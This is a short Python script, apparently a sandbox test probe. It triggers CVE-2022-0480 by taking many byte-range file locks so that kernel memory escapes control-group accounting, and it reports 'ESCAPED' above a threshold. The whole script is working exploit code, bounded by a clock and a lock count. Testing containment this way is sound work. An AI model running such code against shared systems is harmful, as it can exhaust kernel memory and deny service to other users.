"""Locks every other byte of a file: the kernel keeps a record of each, which no control group counts (CVE-2022-0480).

Stopped by: clock
Ends: completed, crashed, raised
"""

import fcntl
import os
import time

held, deadline = 0, time.monotonic() + 8
for number in range(50):
    # Downwards, and no more in one file than are quickly found: each goes to the front of the file's list.
    fd = os.open(f"locked-{number}", os.O_RDWR | os.O_CREAT)
    for place in range(3000, 0, -1):
        fcntl.lockf(fd, fcntl.LOCK_EX, 1, 2 * place)
        held += 1
    if time.monotonic() > deadline:
        break
for _ in range(100):
    time.sleep(0.01)
if held >= 80_000:
    print("ESCAPED:", held, "records")
print("tried")
